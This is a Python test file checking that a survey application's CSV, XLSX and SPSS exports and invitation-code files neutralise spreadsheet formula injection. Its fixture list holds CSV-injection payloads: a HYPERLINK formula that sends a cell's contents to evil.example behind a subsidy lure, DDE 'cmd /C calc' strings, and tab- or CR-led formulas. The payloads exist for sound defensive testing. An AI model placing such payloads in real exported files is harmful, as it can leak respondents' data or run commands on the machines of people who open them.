"""CSV injection (issue 12, item 6): a resident's open answer ``=HYPERLINK(…)`` must not
become a formula in the spreadsheet of the officer who opens an export.

Every CSV the application writes is read back here the way a spreadsheet would get it:
the responses export (web download, ``surveyapp responses export``) and the invitation
codes (web and ``surveyapp rounds invite``).  No cell starts with a formula character;
the texts come back whole through ``surveyapp responses import``; the XLSX export keeps
them as texts (inline strings, never a formula element) and the ``.sav`` as strings.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pyreadstat
import pytest
from sqlalchemy import select

from surveyapp.admin.routes import invitations_csv
from surveyapp.csv_safe import FORMULA_STARTS
from surveyapp.extensions import db
from surveyapp.models import Response
from surveyapp.responses.formats import export_sav, export_xlsx
from surveyapp.rounds.service import get_round
from tests.responses.export_helpers import submit_suggestions

ATTACKS = [
    '=HYPERLINK("http://evil.example/claim?"&A2,"政府补贴请点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
#: Stored without the survey's validation (which strips the ends of a text): an older
#: row or another channel must not get a tab- or CR-led formula out either.
RAW = ["\t=1+1", "\r=1+1"]
PLAIN = "菜品新鲜 -- 价格 -3 元也行"


@pytest.fixture
def code(app, make_round):
    code = make_round("catering", code="cat-inject")
    submit_suggestions(app, code, [*ATTACKS, "placeholder", "placeholder", PLAIN])
    with app.app_context():
        rows = db.session.scalars(
            select(Response).where(Response.open_answers.is_not(None)).order_by(Response.id)
        ).all()
        for row, text in zip(rows[len(ATTACKS) : len(ATTACKS) + len(RAW)], RAW, strict=True):
            row.open_answers = {"suggestions": text}
        rows[0].external_id = "=1+1"  # an id from an imported file is free text too
        db.session.commit()
    return code


TEXTS = [*ATTACKS, *RAW, PLAIN]


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def _assert_neutralised(rows: list[dict[str, str]]) -> None:
    assert [r["suggestions"] for r in rows] == [
        "'" + t if t.startswith(FORMULA_STARTS) else t for t in TEXTS
    ]
    assert rows[0]["respondent_id"] == "'=1+1"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_the_web_download_quotes_every_formula(app, as_role, code):
    reply = as_role("admin").get(f"/dashboard/rounds/{code}/responses.csv")
    assert reply.status_code == 200
    _assert_neutralised(_rows(reply.get_data().decode("utf-8")))


def test_the_command_line_export_quotes_every_formula(cli, code, tmp_path):
    result = cli("responses", "export", "--round", code)
    assert result.exit_code == 0, result.output
    _assert_neutralised(_rows(result.output))
    out = tmp_path / "r.csv"
    assert cli("responses", "export", "--round", code, "--out", str(out)).exit_code == 0
    _assert_neutralised(_rows(out.read_bytes().decode("utf-8")))


def test_an_export_imports_as_the_answers_it_was_made_from(app, cli, make_round, code, tmp_path):
    """``responses import`` takes off the quote the export put in: the stored texts are
    the originals (the two raw ones without their tab or CR: an import strips cells)."""
    out = tmp_path / "export.csv"
    assert cli("responses", "export", "--round", code, "--out", str(out)).exit_code == 0
    other = make_round("catering", code="cat-inject-2")
    result = cli("responses", "import", str(out), "--round", other)
    assert result.exit_code == 0, result.output
    with app.app_context():
        round_ = get_round(db.session, other)
        stored = db.session.execute(
            select(Response.external_id, Response.open_answers)
            .where(Response.round_id == round_.id)
            .order_by(Response.id)
        ).all()
    assert [o["suggestions"] for _, o in stored] == [t.strip() for t in TEXTS]
    assert stored[0].external_id == "=1+1"
    # and exported again, the file is the same as the first one, bar ids and times
    again = _rows(cli("responses", "export", "--round", other).output)
    assert [r["suggestions"] for r in again] == [
        r["suggestions"].replace("\t", "").replace("\r", "")
        for r in _rows(out.read_bytes().decode("utf-8"))
    ]


def test_xlsx_and_sav_keep_formulas_as_text(app, code, tmp_path):
    with app.app_context():
        round_ = get_round(db.session, code)
        export_xlsx(db.session, round_, tmp_path / "r.xlsx")
        export_sav(db.session, round_, tmp_path / "r.sav")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["responses"]
    header = [c.value for c in ws[1]]
    column = header.index("suggestions") + 1
    cells = [ws.cell(row=r, column=column) for r in range(2, 2 + len(TEXTS))]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == TEXTS  # as texts, whole, without a quote
    assert ws.cell(row=2, column=1).value == "=1+1" and ws.cell(row=2, column=1).data_type == "s"
    frame, _ = pyreadstat.read_sav(str(tmp_path / "r.sav"))
    assert frame["suggestions"].tolist()[: len(ATTACKS)] == ATTACKS


def test_web_invitation_codes_are_safe_whatever_the_link():
    body = invitations_csv('=HYPERLINK("http://evil.example")', ["K7Q2-9MXD", "-ABC-1234"])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [
        ["token", "link"],
        ["K7Q2-9MXD", '\'=HYPERLINK("http://evil.example")?t=K7Q2-9MXD'],
        ["'-ABC-1234", '\'=HYPERLINK("http://evil.example")?t=-ABC-1234'],
    ]


def test_command_line_invitation_codes_are_safe_whatever_the_base_url(cli, make_round, tmp_path):
    code = make_round("catering", code="cat-inv", require_token=True)
    out = tmp_path / "tokens.csv"
    result = cli("rounds", "invite", code, "--count", "2", "--out", str(out), "--base-url", "@evil")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
    assert len(rows) == 2
    for row in rows:
        assert row["url"] == f"'@evil/s/{code}?t={row['token']}"
        assert not row["token"].startswith(FORMULA_STARTS)
